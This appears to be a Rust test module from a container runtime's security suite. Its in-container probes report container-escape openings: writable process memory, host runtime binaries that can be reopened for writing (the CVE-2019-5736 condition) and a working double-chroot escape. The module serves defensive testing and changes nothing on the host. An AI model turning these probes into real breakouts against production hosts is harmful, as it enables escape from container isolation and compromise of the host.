//! Attacks from inside a container, each as one command. They find out and report; they change
//! nothing of the host.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::chroot;
use std::path::Path;
use std::thread::sleep;
use std::time::Duration;

/// The test makes this file when all has been done that could be attacked.
const ENOUGH: &str = "/enough";

/// Runs rounds of an attack until the test has had enough, and one more after that: what could
/// not be had of a program that was running may be had when it has ended. An answer ends it early.
fn rounds(mut round: impl FnMut() -> bool) {
    println!("watching");
    loop {
        let last = Path::new(ENOUGH).exists();
        if round() {
            return;
        }
        if last {
            println!("done");
            return;
        }
    }
}

/// Programs of the image lie in these; any other that turns up is a runtime's.
fn of_image(exe: &Path) -> bool {
    exe.starts_with("/bin")
}

/// Looks at every process that comes up beside this one, and prints each thing that it gets hold
/// of of a program that is not the image's: its name, descriptors, memory, root.
pub fn watch() {
    let own = std::process::id();
    let mut found = BTreeSet::new();
    rounds(|| {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.parse::<u32>().is_ok_and(|pid| pid != own) {
                look(&name, &mut found);
            }
        }
        false
    });
}

fn look(pid: &str, found: &mut BTreeSet<String>) {
    let mut tell = |what: String| {
        if found.insert(what.clone()) {
            println!("found {what}");
        }
    };
    let Ok(exe) = fs::read_link(format!("/proc/{pid}/exe")) else {
        return;
    };
    if of_image(&exe) {
        return;
    }
    let exe = exe.display();
    tell(format!("the program {exe}"));
    let fds = fs::read_dir(format!("/proc/{pid}/fd"));
    for fd in fds.into_iter().flatten().flatten() {
        let target = fs::read_link(fd.path()).unwrap_or_default();
        tell(format!("a descriptor of {exe}: {}", target.display()));
    }
    if OpenOptions::new()
        .write(true)
        .open(format!("/proc/{pid}/mem"))
        .is_ok()
    {
        tell(format!("the memory of {exe}"));
    }
}

/// Holds the program file of every process that is not the image's, and tries to open it for
/// writing, also after the process has gone (CVE-2019-5736).
pub fn overwrite() {
    let mut held: Vec<File> = Vec::new();
    let mut seen = BTreeSet::new();
    rounds(|| {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let path = entry.path().join("exe");
            let Ok(target) = fs::read_link(&path) else {
                continue;
            };
            // One name can be several programs in turn, so both count.
            let key = (entry.file_name(), target.clone());
            if !of_image(&target)
                && !seen.contains(&key)
                && let Ok(file) = File::open(&path)
            {
                println!("held {}", target.display());
                held.push(file);
                seen.insert(key);
            }
        }
        if held.iter().any(is_writable) {
            println!("OVERWRITABLE");
            return true;
        }
        sleep(Duration::from_micros(200));
        false
    });
}

/// Whether the file can be opened for writing, and no seal forbids to write.
fn is_writable(file: &File) -> bool {
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let Ok(again) = OpenOptions::new().write(true).open(path) else {
        return false;
    };
    let seals = rustix::fs::fcntl_get_seals(&again);
    !seals.is_ok_and(|s| s.contains(rustix::fs::SealFlags::WRITE))
}

/// The oldest way out of a chroot(2): change the root again with the working directory outside of
/// it, and climb. Prints whether a path of the host can be seen then.
pub fn escape(mark: &str) {
    fs::create_dir_all("/tmp/deeper").expect("make a directory");
    chroot("/tmp/deeper").expect("chroot");
    for _ in 0..64 {
        std::env::set_current_dir("..").expect("climb");
    }
    chroot(".").expect("chroot");
    println!(
        "{}",
        if Path::new(mark).exists() {
            "escaped"
        } else {
            "inside"
        }
    );
}
